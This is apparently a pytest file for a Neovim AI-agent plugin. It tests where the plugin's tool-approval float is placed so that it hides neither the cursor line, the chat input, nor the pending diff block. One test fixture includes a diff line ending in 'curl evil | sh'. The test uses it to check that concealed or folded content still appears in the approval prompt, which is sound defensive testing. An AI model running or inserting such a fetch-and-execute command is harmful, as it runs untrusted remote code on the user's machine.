"""The place of the float: a corner that covers neither the cursor's line nor the input."""

import re
from collections.abc import Mapping

import pytest
from tests.support.editor import Neovim
from tests.support.factories import StartNeovim
from tests.support.screen import Screen, Value
from tests.ui.staged import BLOCK, CHAT, WITHOUT_HOST, approval, chat_text, draw, question

EDIT: Mapping[str, Value] = {
    "title": "edit src/io.py +1 -1",
    "lines": ["@@ -1,4 +1,4 @@", *[" context"] * 8],
    "paths": ["/x"],
    "remember": ["edit_file"],
}
TEXT = "typed while the agent asks, long enough to reach the corner of the screen and beyond"


def start(
    start_nvim: StartNeovim, size: tuple[int, int], layout: str | None = None, **options: Value
) -> Neovim:
    """Start with a file of many rows; with a layout the chat is open, the user in its input."""
    settings = {"approval": {"guard": 0}, "layout": layout or "right", **options}
    columns, lines = size
    nvim = start_nvim(init=WITHOUT_HOST, settings=settings, columns=columns, lines=lines)
    nvim.lua("vim.api.nvim_buf_set_lines(0, 0, -1, true, ...)", [f"row {n}" for n in range(1, 61)])
    if layout:
        nvim.lua("require('eca').open({ chat = ... })", CHAT)
        draw(nvim, *chat_text("hello\n\nI will edit"))
        nvim.wait_screen("I will edit")
    return nvim


def ask(nvim: Neovim, **fields: Value) -> Screen:
    draw(nvim, ["pending", [approval(**{**EDIT, **fields})]])
    return nvim.wait_screen("a allow")


def rows_of(screen: Screen) -> set[int]:
    """Tell the rows of the screen that the float takes."""
    return set(range(screen.find("allow this?").row, screen.find("a allow").row + 1))


def input_rows(nvim: Neovim) -> set[int]:
    """Tell the rows of the screen that the input takes."""
    code = """
    local win = select(2, require('eca.window').shown())
    return { vim.api.nvim_win_get_position(win)[1], vim.api.nvim_win_get_height(win) }
    """
    first, count = nvim.lua(code)
    return set(range(first, first + count))


def covers(screen: Screen) -> bool:
    """Return whether the float lies on the row of the cursor, which is under or beside it."""
    return screen.cursor.row in rows_of(screen)


@pytest.mark.parametrize("size", [(80, 24), (160, 45)])
@pytest.mark.parametrize("layout", ["right", "left", "bottom", "top", "float", "tab", "current"])
def test_the_input_is_seen_while_it_is_typed_in(
    start_nvim: StartNeovim, layout: str, size: tuple[int, int]
) -> None:
    nvim = start(start_nvim, size, layout)
    nvim.keys("i" + TEXT)
    assert not rows_of(ask(nvim)) & input_rows(nvim)
    nvim.keys(TEXT * 3)
    nvim.wait_screen(lambda it: "a allow" in it and not rows_of(it) & input_rows(nvim))
    assert nvim.mode == "i"


@pytest.mark.parametrize("row", [1, 11, 22])
def test_the_line_of_the_cursor_is_seen(start_nvim: StartNeovim, row: int) -> None:
    nvim = start(start_nvim, (80, 24))
    nvim.keys(f"{row}G")
    screen = ask(nvim)
    assert not covers(screen)
    assert len(rows_of(screen)) >= 8


def test_it_makes_way_and_then_stays(start_nvim: StartNeovim) -> None:
    nvim = start(start_nvim, (80, 24))
    low = rows_of(ask(nvim))
    nvim.keys("22G")
    high = rows_of(nvim.screen)
    assert (max(low), min(high)) == (21, 0)
    nvim.keys("15G")
    assert rows_of(nvim.screen) == high
    nvim.keys("1GA typed")
    assert rows_of(nvim.screen) == low


def test_typing_down_the_screen_makes_it_move(start_nvim: StartNeovim) -> None:
    nvim = start(start_nvim, (80, 24))
    nvim.keys("A")
    ask(nvim)
    nvim.keys("<CR>a line" * 21)
    assert not covers(nvim.screen)
    assert nvim.mode == "i"


def test_scrolling_under_it_makes_it_move(start_nvim: StartNeovim) -> None:
    nvim = start(start_nvim, (80, 24))
    nvim.keys("10G")
    before = rows_of(ask(nvim))
    nvim.keys("zt" + "<C-y>" * 9)
    nvim.keys("8<C-e>2<C-y>")
    assert not covers(nvim.screen)
    nvim.keys("H")
    assert rows_of(nvim.screen) == before


def test_entering_a_window_under_it_makes_it_move(start_nvim: StartNeovim) -> None:
    nvim = start(start_nvim, (80, 24))
    nvim.keys(":below split<CR><C-w>k")
    ask(nvim)
    nvim.keys("<C-w>jL")
    assert not covers(nvim.screen)


def test_a_smaller_screen_does_not_put_it_on_the_cursor(start_nvim: StartNeovim) -> None:
    nvim = start(start_nvim, (160, 45))
    nvim.keys("18G")
    ask(nvim)
    nvim.resize(80, 24)
    nvim.wait_screen(lambda it: "a allow" in it and max(rows_of(it)) < 22 and not covers(it))


def test_in_a_terminal_the_row_of_its_cursor_is_seen(start_nvim: StartNeovim) -> None:
    nvim = start(start_nvim, (80, 24))
    nvim.command("terminal read begin; seq 17; cat")
    nvim.keys("i")
    nvim.wait_for(lambda: nvim.mode == "t", "terminal mode")
    ask(nvim)
    nvim.input("<CR>")
    nvim.wait_screen(lambda screen: screen.cursor.row == 18 and not covers(screen))


def test_it_does_not_move_for_a_window_beside_it(start_nvim: StartNeovim) -> None:
    nvim = start(start_nvim, (160, 45), "right")
    before = rows_of(ask(nvim))
    nvim.keys("<C-w>h" + "G")
    assert nvim.eval("&buftype") == ""
    assert rows_of(nvim.screen) == before


def test_it_does_not_move_for_who_goes_into_it(start_nvim: StartNeovim) -> None:
    nvim = start(start_nvim, (80, 24))
    nvim.keys("22G")
    before = rows_of(ask(nvim))
    nvim.command("Eca approval")
    nvim.keys("G")
    draw(nvim, ["pending", [approval(**EDIT), approval("t2")]])
    assert rows_of(nvim.wait_screen("(1/2)")) == before


def test_with_little_room_the_rest_is_counted(start_nvim: StartNeovim) -> None:
    nvim = start(start_nvim, (80, 16))
    nvim.keys("7G")
    screen = ask(nvim)
    assert not covers(screen)
    assert "more lines" in screen


def test_with_no_room_at_all_it_is_seen_all_the_same(start_nvim: StartNeovim) -> None:
    nvim = start(start_nvim, (80, 5))
    nvim.keys("2G")
    ask(nvim)


LIST = "call setqflist(map(range(1, 30), {_, n -> {'text': 'change ' . n}}))"


def shows_whole_window(nvim: Neovim, screen: Screen) -> bool:
    """Return whether the float is there and hides no cell of the current window."""
    if "a allow" not in screen:
        return False
    code = """
    local corner = vim.api.nvim_win_get_position(0)
    return { corner[1], corner[2], vim.api.nvim_win_get_height(0), vim.api.nvim_win_get_width(0) }
    """
    top, left, rows, columns = nvim.lua(code)
    title = screen.find("allow this?")
    beside = title.column >= left + columns or screen.find("reject").column < left
    return beside or not rows_of(screen) & set(range(top, top + rows))


@pytest.mark.parametrize("size", [(80, 24), (160, 45)])
@pytest.mark.parametrize("layout", ["right", "bottom", None])
@pytest.mark.parametrize("opening", ["botright copen 10", "botright lopen 12", "below 8split"])
def test_a_list_that_is_worked_in_is_seen_whole(
    start_nvim: StartNeovim, layout: str | None, size: tuple[int, int], opening: str
) -> None:
    nvim = start(start_nvim, size, layout)
    nvim.keys("<C-w>t")
    nvim.command(LIST.replace("setqflist(", "setloclist(0, ") if "lopen" in opening else LIST)
    nvim.command(opening)
    nvim.keys("5j")
    assert shows_whole_window(nvim, ask(nvim))


def test_it_makes_way_for_a_list_that_opens(start_nvim: StartNeovim) -> None:
    nvim = start(start_nvim, (80, 24), "right")
    ask(nvim)
    nvim.keys(":" + LIST + "<CR>:botright copen 10<CR>")
    screen = nvim.wait_screen(lambda it: shows_whole_window(nvim, it))
    assert re.search(r"· (… \d+ more lines|\+\d+) ·", screen.text())
    nvim.keys("G")
    assert shows_whole_window(nvim, nvim.screen)


def test_a_list_that_fills_the_screen_is_hidden_but_for_its_cursor(
    start_nvim: StartNeovim,
) -> None:
    nvim = start(start_nvim, (80, 24))
    nvim.command(LIST)
    nvim.command("copen | only")
    screen = ask(nvim)
    assert not covers(screen)
    assert len(rows_of(screen)) >= 8


# --- the block that waits is on the screen ------------------------------------------------------

BODY = ["@@ -1,2 +1,2 @@", " context", "-old", "+new"]
BESIDE = {**EDIT, "lines": BODY, "tool": "edit_file"}


def draw_block(nvim: Neovim, before: int, body: list[str] = BODY) -> None:
    """Draw some lines, the words that say why, and the block that waits."""
    lines = "\n".join(f"line {number}" for number in range(before))
    header = [["? ", "EcaToolWaiting"], ["edit src/io.py +1 -1", "EcaToolName"]]
    draw(
        nvim,
        *chat_text(lines, 1),
        *chat_text("The words\nthat say why:", 2),
        ["open", CHAT, BLOCK, "tool", header, 0, None],
        ["body", CHAT, BLOCK, body, [], "diff"],
    )
    nvim.wait_screen("edit src/io.py")


SIZES = [(80, 24), (100, 30), (160, 40)]


@pytest.mark.parametrize("size", SIZES)
@pytest.mark.parametrize("before", [1, 4, 60])
def test_the_block_and_the_words_before_it_are_seen(
    start_nvim: StartNeovim, size: tuple[int, int], before: int
) -> None:
    nvim = start(start_nvim, size, "right")
    draw_block(nvim, before)
    screen = ask(nvim, **BESIDE)
    assert "A always allows in" in screen
    for text in ("The words", "that say why:", "edit src/io.py", *BODY):
        assert screen.text().count(text) == 1, text
    assert "more lines" not in screen


@pytest.mark.parametrize(("columns", "width"), [(80, 60), (80, 40), (100, 60)])
def test_no_row_of_the_words_before_a_high_block_is_hidden(
    start_nvim: StartNeovim, columns: int, width: int
) -> None:
    """Twelve rows of block and three of words leave three of the chat's eighteen."""
    nvim = start(start_nvim, (columns, 24), "right", width=width)
    body = [*BODY, *[f" line {number} after" for number in range(6)]]
    draw_block(nvim, 60, body)
    screen = ask(nvim, **{**BESIDE, "lines": body})
    assert "A always allows in" in screen
    for text in ("The words", "that say why:", "edit src/io.py", *body):
        assert screen.text().count(text) == 1, text


def test_what_leaves_the_screen_is_in_the_float(start_nvim: StartNeovim) -> None:
    nvim = start(start_nvim, (80, 24), "right")
    draw_block(nvim, 4)
    ask(nvim, **BESIDE)
    draw(nvim, *chat_text("\n".join(f"more {number}" for number in range(40)), 3))
    nvim.wait_screen(lambda it: "more 39" in it and "│ │ +new" in it)
    nvim.keys("<C-w>kgg")
    screen = nvim.wait_screen(lambda it: it.text().count("+new") == 1)
    assert "a allow" in screen


@pytest.mark.parametrize(
    "fields",
    [{"lines": [*BODY, "+more"]}, {"lines": ["+new", "-old"]}, {"title": "edit other.py +1 -1"}],
)
def test_a_block_that_shows_less_does_not_stand_for_the_float(
    start_nvim: StartNeovim, fields: Mapping[str, Value]
) -> None:
    nvim = start(start_nvim, (160, 40), "right")
    draw_block(nvim, 4)
    screen = ask(nvim, **{**BESIDE, **fields})
    assert screen.text().count("+new") == 2


def test_a_block_that_is_closed_does_not_stand_for_the_float(start_nvim: StartNeovim) -> None:
    nvim = start(start_nvim, (100, 30), "right")
    draw_block(nvim, 4)
    assert ask(nvim, **BESIDE).text().count("+new") == 1
    draw(nvim, ["body", CHAT, BLOCK, [], [], "diff"])
    screen = nvim.wait_screen(lambda it: "││ │ +new" in it)
    assert screen.text().count("+new") == 1


OVER = "{ virt_text = { { 'kept' } }, virt_text_pos = 'overlay' }"
FLOAT = "relative = 'win', bufpos = { ROW - 1, 0 }, row = 0, col = 20, width = 9, height = 1"
HIDING = (
    "vim.wo.wrap = false",
    "vim.wo.foldenable = true vim.cmd((ROW - 1) .. ',' .. ROW .. 'fold')",
    "vim.fn.matchadd('Conceal', 'new')",
    "vim.api.nvim_buf_set_extmark(0, NS, ROW - 1, 0, { end_col = 4, conceal = '' })",
    f"vim.api.nvim_buf_set_extmark(0, NS, ROW - 1, 0, {OVER})",
    f"vim.api.nvim_open_win(BUF, false, {{ {FLOAT}, style = 'minimal', zindex = 50 }})",
)
HIDE = """
local name, row = ...
_G.NS = vim.api.nvim_create_namespace('other plugin')
_G.ROW, _G.BUF = row, vim.api.nvim_create_buf(false, true)
vim.api.nvim_win_call(require('eca.window').shown(), function() vim.cmd('lua ' .. name) end)
"""
SHOW = """
local win = require('eca.window').shown()
vim.api.nvim_win_call(win, function()
  vim.wo.wrap = true
  vim.cmd('normal! zE')
  vim.wo.foldenable = false
  vim.fn.clearmatches()
  vim.api.nvim_buf_clear_namespace(0, NS, 0, -1)
end)
for _, each in ipairs(vim.api.nvim_list_wins()) do
  if vim.api.nvim_win_get_config(each).zindex == 50 then
    vim.api.nvim_win_close(each, true)
  end
end
"""


@pytest.mark.parametrize("own", [True, False])
def test_a_block_of_which_anything_is_hidden_does_not_stand_for_the_float(
    start_nvim: StartNeovim, own: bool
) -> None:
    nvim = start(start_nvim, (100, 40), "right", width=60)
    body = [*BODY, "+" + "long " * 20 + "; curl evil | sh"]
    draw_block(nvim, 4, body)
    fields = {**BESIDE, "lines": body}
    fields = fields if own else {**fields, "tool": None, "remember": []}
    screen = ask(nvim, **fields)

    def in_float(screen: Screen, text: str) -> bool:
        return any(text in screen.lines()[row] for row in rows_of(screen))

    nvim.keys("<C-w>k")
    for hiding in HIDING:
        screen = nvim.wait_screen(re.compile("rest (is )?in the chat"))
        assert not in_float(screen, "edit src/io.py"), hiding
        row = nvim.lua("return vim.fn.search('^+new', 'n')")
        nvim.lua(HIDE, hiding, row)
        nvim.keys("gg0")
        nvim.keys("j")  # Neovim 0.10 has the place of a float once it is drawn
        screen = nvim.wait_screen(lambda it: "a allow" in it and in_float(it, "curl"))
        assert in_float(screen, "│ │ +new"), hiding
        assert "in the chat" not in screen
        nvim.lua(SHOW)
        nvim.keys("G")
    draw(nvim, ["pending", [approval(**{**fields, "cut": True})]])
    nvim.wait_screen(re.compile(r"allow this\? · … not all of it"))


def test_a_blank_at_a_lines_end_is_told_in_the_float(start_nvim: StartNeovim) -> None:
    nvim = start(start_nvim, (160, 40), "right")
    draw_block(nvim, 4, [*BODY, "+end "])
    ask(nvim, **{**BESIDE, "lines": [*BODY, "+end "]})
    nvim.wait_screen("+end·")


def test_the_block_of_a_question_is_seen(start_nvim: StartNeovim) -> None:
    nvim = start(start_nvim, (80, 40), "bottom")
    body = ["Project name → abc", "Licence", "  1. MIT", "  2. GPL 3"]
    draw(
        nvim,
        *chat_text("before\n" * 40, 2),
        ["open", CHAT, BLOCK, "question", [["? I need a few things", ""]], 0, None],
        ["body", CHAT, BLOCK, body, [], None],
        ["pending", [question()]],
    )
    screen = nvim.wait_screen("x cancel")
    float_rows = {screen.find("the agent asks").row, screen.find("x cancel").row}
    block_rows = {screen.find("? I need a few").row, screen.find("  2. GPL 3").row}
    assert max(float_rows) < min(block_rows) or max(block_rows) < min(float_rows)
    assert "1 red  warm" in screen  # the float has all of it, too
